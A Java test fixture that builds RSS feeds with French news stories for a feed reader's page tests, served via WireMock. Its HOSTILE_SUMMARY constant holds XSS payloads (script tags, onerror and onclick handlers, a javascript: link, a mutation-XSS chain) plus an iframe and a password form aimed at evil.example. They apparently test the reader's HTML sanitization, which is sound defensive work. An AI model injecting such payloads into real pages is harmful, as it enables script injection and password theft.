package fr.manchette.web;

import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.List;

import com.github.tomakehurst.wiremock.client.WireMock;
import com.github.tomakehurst.wiremock.junit5.WireMockExtension;
import fr.manchette.support.FeedsYml;

/**
 * A small RSS 2.0 document written for a test, with the items it is given. Titles go in as XML text, so
 * {@code &amp;lt;} in a title is what a feed that escapes twice sends, and ends as a literal {@code <} in the store.
 */
record NewsFeed(String title, List<Story> stories) {

	record Story(String guid, String titleXml, String link, String description, Instant published) {

	}

	/** Three stories of a politics source, one of them with a title and a summary full of markup, one two days old. */
	static NewsFeed quotidien(Instant now) {
		return new NewsFeed("Le Quotidien", List.of(
				new Story("q1", "Le Parlement adopte la loi de finances", "https://quotidien.example/loi.html",
						"&lt;p&gt;Vote à main levée.&lt;/p&gt;", now.minusSeconds(20 * 60)),
				new Story("q2",
						"&amp;lt;&amp;lt;Le Monde&amp;gt;&amp;gt; Prix &amp;lt; 5 dirhams &amp;amp; « guillemets \"doubles\" »",
						"https://quotidien.example/prix.html", "<![CDATA[" + HOSTILE_SUMMARY + "]]>",
						now.minusSeconds(40 * 60)),
				new Story("q3", "Le Wydad et l’Étoile du Sahel en finale", "https://quotidien.example/finale.html", "",
						now.minusSeconds(2 * 86_400))));
	}

	/**
	 * The title {@link #quotidien} stores for its second story: text that uses angle brackets, a tag to a page that
	 * would not escape it, to be shown as written. (Markup escaped twice, a script, is read as HTML by normalize.)
	 */
	static final String HOSTILE_TITLE = "<<Le Monde>> Prix < 5 dirhams & « guillemets \"doubles\" »";

	/**
	 * The summary of {@link #quotidien}'s second story, as its feed means it: what runs, loads, submits or restyles,
	 * around a table and a relative link.
	 */
	static final String HOSTILE_SUMMARY = """
			<p onclick="alert(2)" style="position:fixed;top:0">Le prix <b>baisse</b><script>alert(3)</script></p>
			<iframe src="https://evil.example/"></iframe><a href="javascript:alert(4)">lien</a>
			<a href="/prix/detail.html" target="_blank">détail</a>
			<img src="https://quotidien.example/graphique.png" onerror="alert(5)" alt="graphique">
			<math><mtext><table><mglyph><style><img src=x onerror=alert(6)></style></mglyph></table></mtext></math>
			<table><tr><td>Pain</td><td>5 dirhams</td></tr></table>
			<form action="https://evil.example/"><input name="motdepasse"></form>""";

	/** Two stories of a sports source. */
	static NewsFeed sportMatin(Instant now) {
		return new NewsFeed("Sport Matin", List.of(
				new Story("s1", "L’Étoile de Casablanca remporte le derby", "https://sport.example/derby.html", "",
						now.minusSeconds(30 * 60)),
				new Story("s2", "Ounahi élu joueur de l’année", "https://sport.example/ounahi.html", "",
						now.minusSeconds(50 * 60))));
	}

	/** feeds.yml of the sources the page tests serve: two feeds and one that fails. */
	static FeedsYml threeSources(int port, String timezone) {
		String site = "http://localhost:" + port;
		return FeedsYml.inZone(timezone)
			.source("quotidien", "Le Quotidien", site + "/quotidien/rss", "category: politique")
			.source("sport-matin", "Sport Matin", site + "/sport/rss", "category: sport")
			.source("panne", "Source en panne", site + "/panne/rss");
	}

	/** Serves {@link #threeSources}: {@link #quotidien}, {@link #sportMatin}, and a 500. */
	static void serveThreeSources(WireMockExtension sites, Instant now) {
		sites.stubFor(WireMock.get("/quotidien/rss").willReturn(WireMock.aResponse().withBody(quotidien(now).rss())));
		sites.stubFor(WireMock.get("/sport/rss").willReturn(WireMock.aResponse().withBody(sportMatin(now).rss())));
		sites.stubFor(WireMock.get("/panne/rss").willReturn(WireMock.aResponse().withStatus(500)));
	}

	/** The same feed with one more story, first. */
	NewsFeed with(Story story) {
		List<Story> stories = new java.util.ArrayList<>(this.stories);
		stories.add(0, story);
		return new NewsFeed(this.title, stories);
	}

	String rss() {
		StringBuilder rss = new StringBuilder("""
				<?xml version="1.0" encoding="UTF-8"?>
				<rss version="2.0"><channel><title>%s</title><link>https://example.org/</link>
				<description>test</description>
				""".formatted(this.title));
		for (Story story : this.stories) {
			rss.append("<item><guid isPermaLink=\"false\">")
				.append(story.guid())
				.append("</guid><title>")
				.append(story.titleXml())
				.append("</title><link>")
				.append(story.link())
				.append("</link><description>")
				.append(story.description())
				.append("</description><pubDate>")
				.append(DateTimeFormatter.RFC_1123_DATE_TIME.format(story.published().atOffset(ZoneOffset.UTC)))
				.append("</pubDate></item>\n");
		}
		return rss.append("</channel></rss>\n").toString();
	}

}
